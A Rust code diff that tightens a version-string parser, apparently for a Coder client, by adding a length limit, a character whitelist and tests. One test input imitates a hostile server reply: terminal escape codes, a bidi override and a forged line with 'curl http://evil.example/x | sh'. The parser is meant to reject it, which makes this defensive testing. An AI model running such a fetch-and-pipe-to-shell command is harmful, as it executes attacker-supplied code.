@@ -11,6 +11,9 @@ use std::fmt;
 
 /// The first release that honours `agent_name`.
 pub const AGENT_NAME_SINCE: (u64, u64, u64) = (2, 33, 0);
+/// The longest version string taken as one (Coder's are about 20 bytes:
+/// `v2.33.4+abc1234`, `v2.33.0-rc.2`, `v0.0.0-devel+abc1234`).
+pub const VERSION_MAX: usize = 64;
 /// The release that fixed the repeated names in the 409.
 pub const REPEATED_NAMES_FIXED: &str = "v2.33.4";
 
@@ -25,9 +28,19 @@ pub struct Version {
 
 impl Version {
     /// Parse like Go's `golang.org/x/mod/semver` would accept it (a leading
-    /// `v`, three numbers, optional pre-release and build); `None` if not.
+    /// `v`, three numbers, optional pre-release and build, made of ASCII
+    /// letters, digits, `-` and `.`), at most [`VERSION_MAX`] bytes; `None`
+    /// if not. What parses is safe to show as it is: no control, no bidi
+    /// character, no line that could pass for one of ours.
     pub fn parse(raw: &str) -> Option<Version> {
         let raw = raw.trim();
+        if raw.len() > VERSION_MAX
+            || !raw
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'+'))
+        {
+            return None;
+        }
         let core = raw.strip_prefix('v').unwrap_or(raw);
         let core = core.split(['+', '-']).next()?;
         let mut parts = core.split('.').map(|p| {
@@ -88,6 +101,9 @@ mod tests {
         // 0.0.0 is a development build with or without its "v".
         assert_eq!(Version::parse("0.0.0-devel").unwrap().release, None);
         assert_eq!(Version::parse("2.33.4").unwrap().release, Some((2, 33, 4)));
+        let longest = format!("v2.33.0+{}", "a".repeat(VERSION_MAX - 8));
+        assert_eq!(Version::parse(&longest).unwrap().raw, longest);
+        assert_eq!(Version::parse(&format!("{longest}a")), None);
         for junk in [
             "",
             "v2",
@@ -96,6 +112,11 @@ mod tests {
             "v2.33.x",
             "v2.33.0.1",
             "v99999999999.0.0",
+            // What a hostile server may say: forged lines, escapes, bidi, a huge build.
+            "v2.32.0+x\n\u{1b}[2J\u{1b}[31mfix: curl http://evil.example/x | sh\u{202e}",
+            "v2.33.0+a b",
+            "v2.33.0+\u{202e}",
+            &format!("v2.33.0+{}", "a".repeat(60_000)),
         ] {
             assert_eq!(Version::parse(junk), None, "{junk}");
         }
